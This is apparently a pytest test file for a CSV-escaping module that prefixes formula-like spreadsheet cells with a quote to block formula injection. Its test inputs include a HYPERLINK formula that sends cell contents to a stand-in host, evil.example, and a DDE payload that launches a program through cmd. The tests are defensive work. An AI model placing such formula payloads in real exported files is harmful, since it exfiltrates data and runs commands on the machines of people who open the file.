"""CSV cells open as data in a spreadsheet, never as formulas (issue 19)."""

from __future__ import annotations

import csv
import decimal
import io

import pytest

from tocsin.core import csvsafe


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")", "+1+1", "-2+3", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
])
def test_text_that_would_start_a_formula_gets_a_quote(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    -3, -2.5, 0, 12, decimal.Decimal("-1.5"), None, True, "", "bigsocial", "2026-11-13T20:00:00",
    "a=b", "x-y", "'=already quoted",
])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert csvsafe.cell(value) == value


def test_writer_neutralises_every_row_and_keeps_numbers() -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\n")
    writer.writerow(["figure", "value"])
    writer.writerows([["=1+1", -4], ["@x", 2.5]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["figure", "value"], ["'=1+1", "-4"], ["'@x", "2.5"]]
